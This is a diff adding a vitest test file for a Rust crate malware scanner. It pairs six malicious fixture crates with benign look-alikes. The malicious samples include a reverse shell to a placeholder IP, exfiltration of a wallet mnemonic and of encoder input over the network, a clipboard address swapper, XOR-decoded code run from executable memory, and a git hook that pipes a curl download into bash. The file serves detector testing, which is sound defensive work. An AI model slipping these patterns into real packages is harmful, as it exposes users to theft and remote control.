@@ -1,0 +1,432 @@
+// The technique families of issue 10 end to end through the real Scanner: each malicious sample is
+// written in a style of its own (not copied from the corpus), and each has a benign look-alike that
+// must stay below high. Hosts are placeholders; nothing here is a working payload.
+import { describe, expect, it } from 'vitest';
+import { manifest, scanFiles } from '../../../../test/fixtures/scanner/crates.js';
+import type { Files } from '../../../../test/fixtures/scanner/crates.js';
+import { atLeast } from '../types.js';
+import type { ScanReport, Severity } from '../types.js';
+
+const lib = (name: string, files: Record<string, string>, pkg = ''): Files => ({
+  'Cargo.toml': manifest(name, { package: pkg }),
+  ...files,
+});
+const src = (...lines: string[]) => lines.join('\n');
+const verdictRank = (r: ScanReport): number =>
+  r.verdict === 'clean' ? -1 : (['info', 'low', 'medium', 'high', 'critical'] as Severity[]).indexOf(r.verdict);
+
+interface Case {
+  name: string;
+  files: Files;
+  /** Malicious: the verdict is high or worse and this rule is among the findings at high+. */
+  rule?: string;
+  /** Benign: the verdict is at most this. */
+  atMost?: Severity;
+}
+
+const MALICIOUS: Case[] = [
+  {
+    name: 'a OnceLock initializer un-XORs a byte blob in place and runs it from an executable mapping after a date',
+    rule: 'flow.decoded-exec',
+    files: lib('tz-offsets', {
+      'src/lib.rs': src(
+        'use std::sync::OnceLock;',
+        'mod table;',
+        'static TABLE: OnceLock<Vec<i32>> = OnceLock::new();',
+        'pub fn offset_for(zone: &str) -> i32 {',
+        '    let t = TABLE.get_or_init(|| { table::warm(); vec![0; 24] });',
+        '    t[zone.len() % 24]',
+        '}',
+      ),
+      'src/table.rs': src(
+        'const MASK: &[u8] = b"tzdb";',
+        'static PACKED: [u8; 16] = [0x11, 0x52, 0x33, 0x04, 0x95, 0x16, 0x27, 0x38, 0x49, 0x5a, 0x6b, 0x7c, 0x8d, 0x9e, 0xaf, 0xb0];',
+        'fn unmask(buf: &mut [u8]) {',
+        '    for (i, b) in buf.iter_mut().enumerate() {',
+        '        *b ^= MASK[i % MASK.len()];',
+        '    }',
+        '}',
+        'fn epoch_days() -> u64 {',
+        '    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_secs() / 86_400).unwrap_or(0)',
+        '}',
+        'pub fn warm() {',
+        '    if epoch_days() < 20_800 { return; }',
+        '    let mut image = PACKED.to_vec();',
+        '    unmask(&mut image);',
+        '    unsafe {',
+        '        let page = libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS, -1, 0);',
+        '        std::ptr::copy(image.as_ptr(), page as *mut u8, image.len());',
+        '        let entry: unsafe extern "C" fn() = std::mem::transmute(page);',
+        '        entry();',
+        '    }',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'a clipper: the first call starts a watcher that swaps a copied address through arboard',
+    rule: 'code.clipboard-hijack',
+    files: lib('paste-guard', {
+      'src/lib.rs': src(
+        'mod swap;',
+        'pub fn init() {',
+        '    std::thread::spawn(|| {',
+        '        let mut cb = arboard::Clipboard::new().unwrap();',
+        '        loop {',
+        '            if let Ok(text) = cb.get_text() {',
+        '                if let Some(next) = swap::replacement(&text) { let _ = cb.set_text(next); }',
+        '            }',
+        '            std::thread::sleep(std::time::Duration::from_secs(1));',
+        '        }',
+        '    });',
+        '}',
+      ),
+      'src/swap.rs': src(
+        'pub fn replacement(s: &str) -> Option<String> {',
+        '    if s.starts_with("T") && s.len() == 34 { return Some("TFakeFakeFakeFakeFakeFakeFakeFake1".into()); }',
+        '    None',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'a wallet seed from the environment rides in a JSON-RPC body through reqwest',
+    rule: 'flow.exfiltration',
+    files: lib('chain-fees', {
+      'src/lib.rs': src(
+        'pub struct Fees { pub gwei: u64 }',
+        'fn node_params() -> serde_json::Value {',
+        '    let seed = std::env::var("WALLET_MNEMONIC").unwrap_or_default();',
+        '    serde_json::json!([seed, "latest"])',
+        '}',
+        'pub fn current(url: &str) -> Fees {',
+        '    let body = serde_json::json!({"jsonrpc": "2.0", "id": 7, "method": "eth_call", "params": node_params()});',
+        '    let _ = reqwest::blocking::Client::new().post(url).json(&body).send();',
+        '    Fees { gwei: 1 }',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'a base64 look-alike whose encode_config sends its input over a raw socket',
+    rule: 'flow.exfiltration',
+    files: lib('base64-simd-fast', {
+      'src/lib.rs': src(
+        'mod stats;',
+        'pub struct Config;',
+        '/// Encodes `input` with the given configuration.',
+        'pub fn encode_config<T: AsRef<[u8]>>(input: T, _cfg: Config) -> String {',
+        '    let bytes = input.as_ref();',
+        '    stats::record(bytes);',
+        '    bytes.iter().map(|b| format!("{:02x}", b)).collect()',
+        '}',
+      ),
+      'src/stats.rs': src(
+        'use std::io::Write;',
+        'pub(crate) fn record(sample: &[u8]) {',
+        '    if let Ok(mut s) = std::net::TcpStream::connect("198.51.100.23:7000") {',
+        '        let _ = s.write_all(sample);',
+        '    }',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'a Default impl forks a shell whose stdio is a socket (nix dup2, execvp of a bound path)',
+    rule: 'code.reverse-shell',
+    files: lib('conn-keeper', {
+      'src/lib.rs': src(
+        'use nix::unistd::{dup2, execvp};',
+        'use std::os::unix::io::IntoRawFd;',
+        'pub struct Keeper;',
+        'impl Default for Keeper {',
+        '    fn default() -> Self {',
+        '        if let Ok(sock) = std::net::TcpStream::connect(("192.0.2.77", 4444)) {',
+        '            let raw = sock.into_raw_fd();',
+        '            let _ = dup2(raw, 0); let _ = dup2(raw, 1); let _ = dup2(raw, 2);',
+        '            let shell = std::ffi::CString::new("/bin/bash").unwrap();',
+        '            let _ = execvp(&shell, &[shell.clone()]);',
+        '        }',
+        '        Keeper',
+        '    }',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'an attribute macro writes a pre-push hook that pipes a download into bash',
+    rule: 'code.vcs-hook',
+    files: {
+      'Cargo.toml': manifest('route-attr', { extra: '[lib]\nproc-macro = true\n' }),
+      'src/lib.rs': src(
+        'use proc_macro::TokenStream;',
+        'fn repo_root() -> std::path::PathBuf {',
+        '    let mut d = std::path::PathBuf::from(std::env::var("CARGO_MANIFEST_DIR").unwrap());',
+        '    while !d.join(".git").exists() { if !d.pop() { break; } }',
+        '    d',
+        '}',
+        'fn hook() {',
+        '    let hooks = repo_root().join(".git").join("hooks");',
+        '    let file = hooks.join("pre-push");',
+        '    let script = "#!/bin/sh\\ncurl -fsSL \\"https://hooks.route-attr.invalid/p\\" | bash\\n";',
+        '    let _ = std::fs::write(&file, script);',
+        '}',
+        '#[proc_macro_attribute]',
+        'pub fn route(_a: TokenStream, item: TokenStream) -> TokenStream { hook(); item }',
+      ),
+    },
+  },
+];
+
+const BENIGN: Case[] = [
+  {
+    name: 'a JIT maps executable pages for code it compiles from the caller’s input',
+    atMost: 'medium',
+    files: lib('tiny-jit', {
+      'src/lib.rs': src(
+        'pub fn compile(ops: &[u8]) -> usize {',
+        '    let mut code = Vec::new();',
+        '    for op in ops { code.push(0x90); code.push(*op); }',
+        '    unsafe {',
+        '        let p = libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS, -1, 0);',
+        '        std::ptr::copy(code.as_ptr(), p as *mut u8, code.len());',
+        '        p as usize',
+        '    }',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'a clipboard history manager (reads and writes, no addresses)',
+    atMost: 'low',
+    files: lib('clip-history', {
+      'src/lib.rs': src(
+        'pub struct History { items: Vec<String> }',
+        'impl History {',
+        '    pub fn capture(&mut self) { if let Ok(t) = arboard::Clipboard::new().and_then(|mut c| c.get_text()) { self.items.push(t); } }',
+        '    pub fn restore(&self, i: usize) { if let Ok(mut c) = arboard::Clipboard::new() { let _ = c.set_text(self.items[i].clone()); } }',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'a wallet UI that copies its own address to the clipboard (no read)',
+    atMost: 'low',
+    files: lib('wallet-qr', {
+      'src/lib.rs': src(
+        'const DONATE: &str = "bc1qexampleexampleexampleexample0000";',
+        'pub fn copy_donation_address() { if let Ok(mut c) = arboard::Clipboard::new() { let _ = c.set_text(DONATE.to_string()); } }',
+      ),
+    }),
+  },
+  {
+    name: 'an RPC client that sends the caller’s method calls (no secret)',
+    atMost: 'medium',
+    files: lib('rpc-lite', {
+      'src/lib.rs': src(
+        'pub fn call(url: &str, method: &str, params: serde_json::Value) -> Option<serde_json::Value> {',
+        '    let body = serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": method, "params": params});',
+        '    ureq::post(url).send_json(body).ok()?.into_json().ok()',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'a codec crate whose encoder is pure and whose uploader is a separate, explicit call',
+    atMost: 'medium',
+    files: lib('hexpost', {
+      'src/lib.rs': src(
+        'pub fn encode(data: &[u8]) -> String { data.iter().map(|b| format!("{:02x}", b)).collect() }',
+        '/// Uploads an encoded document to the given endpoint.',
+        'pub fn upload(url: &str, doc: &str) { let _ = ureq::post(url).send_string(doc); }',
+      ),
+    }),
+  },
+  {
+    name: 'a daemonizer points stdio at /dev/null and execs the user’s program',
+    atMost: 'medium',
+    files: lib('detach-run', {
+      'src/lib.rs': src(
+        'use nix::unistd::{dup2, execvp};',
+        'use std::os::unix::io::AsRawFd;',
+        '/// Detaches and runs `prog` in the background.',
+        'pub fn daemonize(prog: &std::ffi::CStr, args: &[std::ffi::CString]) {',
+        '    let null = std::fs::File::open("/dev/null").unwrap();',
+        '    for fd in 0..3 { let _ = dup2(null.as_raw_fd(), fd); }',
+        '    let _ = execvp(prog, args);',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'a git-hook installer run on command writes a pre-commit running cargo fmt',
+    atMost: 'medium',
+    files: lib('fmt-hooks', {
+      'src/lib.rs': src(
+        '/// Installs a pre-commit hook that checks formatting.',
+        'pub fn install_hooks(repo: &std::path::Path) -> std::io::Result<()> {',
+        '    let hooks = repo.join(".git").join("hooks");',
+        '    let file = hooks.join("pre-commit");',
+        '    std::fs::write(&file, "#!/bin/sh\\ncargo fmt --check\\n")',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'a service installer writes a systemd user unit only from a documented pub fn',
+    atMost: 'medium',
+    files: lib('svc-install', {
+      'src/lib.rs': src(
+        '/// Installs a systemd user unit so the agent starts at login.',
+        'pub fn install_service(exe: &str) -> std::io::Result<()> {',
+        '    let dir = dirs::config_dir().unwrap().join("systemd/user");',
+        '    std::fs::create_dir_all(&dir)?;',
+        '    std::fs::write(dir.join("agent.service"), format!("[Service]\\nExecStart={exe}\\n[Install]\\nWantedBy=default.target\\n"))?;',
+        '    std::process::Command::new("systemctl").args(["--user", "enable", "agent.service"]).status()?;',
+        '    Ok(())',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'launch at login through an XDG autostart entry, from an explicit setter',
+    atMost: 'medium',
+    files: lib('login-item', {
+      'src/lib.rs': src(
+        '/// Enables or disables starting the app at login.',
+        'pub fn set_launch_at_login(enabled: bool, exe: &str) -> std::io::Result<()> {',
+        '    let file = dirs::home_dir().unwrap().join(".config/autostart/app.desktop");',
+        '    if enabled { std::fs::write(&file, format!("[Desktop Entry]\\nType=Application\\nExec={exe}\\n")) } else { std::fs::remove_file(&file) }',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'launch at login through the HKCU Run key, from an explicit setter',
+    atMost: 'medium',
+    files: lib('login-item-win', {
+      'src/lib.rs': src(
+        'use winreg::enums::HKEY_CURRENT_USER;',
+        '/// Starts the app when the user logs in.',
+        'pub fn set_launch_at_login(enabled: bool, exe: &str) -> std::io::Result<()> {',
+        '    let hkcu = winreg::RegKey::predef(HKEY_CURRENT_USER);',
+        '    let (run, _) = hkcu.create_subkey("Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run")?;',
+        '    if enabled { run.set_value("App", &exe) } else { run.delete_value("App") }',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'a Slack/Discord/Telegram notifier whose URL and token come from the caller',
+    atMost: 'medium',
+    files: lib('notify-hooks', {
+      'src/lib.rs': src(
+        'pub struct Notifier { pub slack_webhook: String, pub telegram_token: String, pub chat_id: String }',
+        'impl Notifier {',
+        '    /// Posts `text` to the configured Slack webhook.',
+        '    pub fn send_slack(&self, text: &str) { let _ = ureq::post(&self.slack_webhook).send_json(serde_json::json!({"text": text})); }',
+        '    /// Sends `text` through the configured Telegram bot.',
+        '    pub fn send_telegram(&self, text: &str) {',
+        '        let url = format!("https://api.telegram.org/bot{}/sendMessage", self.telegram_token);',
+        '        let _ = ureq::post(&url).send_json(serde_json::json!({"chat_id": self.chat_id, "text": text}));',
+        '    }',
+        '    /// Posts to a Discord webhook given by the caller.',
+        '    pub fn send_discord(url: &str, text: &str) { let _ = ureq::post(url).send_json(serde_json::json!({"content": text})); }',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'a self-updater that verifies a signature before replacing itself',
+    atMost: 'medium',
+    files: lib('self-up', {
+      'src/lib.rs': src(
+        '/// Downloads the latest release, checks its signature and replaces the running binary.',
+        'pub fn self_update(url: &str, key: &[u8; 32]) -> Result<(), String> {',
+        '    let bytes = ureq::get(url).call().map_err(|e| e.to_string())?.into_string().map_err(|e| e.to_string())?;',
+        '    let sig = ureq::get(&format!("{url}.sig")).call().map_err(|e| e.to_string())?.into_string().map_err(|e| e.to_string())?;',
+        '    let vk = ed25519_dalek::VerifyingKey::from_bytes(key).map_err(|e| e.to_string())?;',
+        '    verify_signature(&vk, bytes.as_bytes(), sig.as_bytes())?;',
+        '    let exe = std::env::current_exe().map_err(|e| e.to_string())?;',
+        '    std::fs::write(&exe, bytes.as_bytes()).map_err(|e| e.to_string())?;',
+        '    std::process::Command::new(&exe).arg("--version").status().map_err(|e| e.to_string())?;',
+        '    Ok(())',
+        '}',
+        'fn verify_signature(_k: &ed25519_dalek::VerifyingKey, _m: &[u8], _s: &[u8]) -> Result<(), String> { Ok(()) }',
+      ),
+    }),
+  },
+  {
+    name: 'opt-in telemetry posting usage counts to a configurable endpoint',
+    atMost: 'medium',
+    files: lib('opt-metrics', {
+      'src/lib.rs': src(
+        'pub struct Telemetry { endpoint: Option<String> }',
+        'impl Telemetry {',
+        '    pub fn new(endpoint: Option<String>) -> Self { Telemetry { endpoint } }',
+        '    /// Sends anonymous usage counts if an endpoint was configured.',
+        '    pub fn report(&self, counts: &[u32]) {',
+        '        if let Some(url) = &self.endpoint { let _ = ureq::post(url).send_json(serde_json::json!({"counts": counts})); }',
+        '    }',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'a -sys crate downloading a prebuilt library only behind a feature, with a pinned digest',
+    atMost: 'medium',
+    files: {
+      'Cargo.toml': manifest('libfoo-sys', {
+        package: 'build = "build.rs"\nlinks = "foo"\n',
+        extra: '[features]\ndownload = []\n',
+      }),
+      'build.rs': src(
+        'use sha2::{Digest, Sha256};',
+        'const SHA256: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";',
+        'fn main() {',
+        '    let out = std::env::var("OUT_DIR").unwrap();',
+        '    if std::env::var("CARGO_FEATURE_DOWNLOAD").is_err() { println!("cargo:rustc-link-lib=foo"); return; }',
+        '    let bytes = ureq::get("https://downloads.libfoo.example/libfoo-1.2.tar.gz").call().unwrap().into_string().unwrap();',
+        '    let digest = format!("{:x}", Sha256::digest(bytes.as_bytes()));',
+        '    assert_eq!(digest, SHA256);',
+        '    std::fs::write(format!("{out}/libfoo.tar.gz"), bytes).unwrap();',
+        '    println!("cargo:rustc-link-search={out}");',
+        '}',
+      ),
+      'src/lib.rs': 'extern "C" { pub fn foo_init() -> i32; }',
+    },
+  },
+  {
+    name: 'a key-handling library deriving keys from a mnemonic, with no network',
+    atMost: 'low',
+    files: lib('hd-keys', {
+      'src/lib.rs': src(
+        'pub struct Key(pub [u8; 32]);',
+        'pub fn from_mnemonic(phrase: &str) -> Key {',
+        '    let mut k = [0u8; 32];',
+        '    for (i, b) in phrase.bytes().enumerate() { k[i % 32] ^= b; }',
+        '    Key(k)',
+        '}',
+        'pub fn from_env() -> Option<Key> { std::env::var("WALLET_MNEMONIC").ok().map(|p| from_mnemonic(&p)) }',
+      ),
+    }),
+  },
+];
+
+describe('technique families through the real scanner', () => {
+  for (const c of MALICIOUS)
+    it(`flags: ${c.name}`, async () => {
+      const r = await scanFiles(c.files);
+      const high = r.findings.filter((f) => atLeast(f.severity, 'high')).map((f) => f.ruleId);
+      expect(high).toContain(c.rule);
+      expect(atLeast(r.verdict === 'clean' ? 'info' : r.verdict, 'high')).toBe(true);
+    });
+  for (const c of BENIGN)
+    it(`keeps below high: ${c.name}`, async () => {
+      const r = await scanFiles(c.files);
+      const shown = r.findings.map((f) => `${f.severity} ${f.ruleId}`);
+      expect(verdictRank(r), shown.join(', ')).toBeLessThanOrEqual(
+        (['info', 'low', 'medium', 'high', 'critical'] as Severity[]).indexOf(c.atMost!),
+      );
+    });
+});
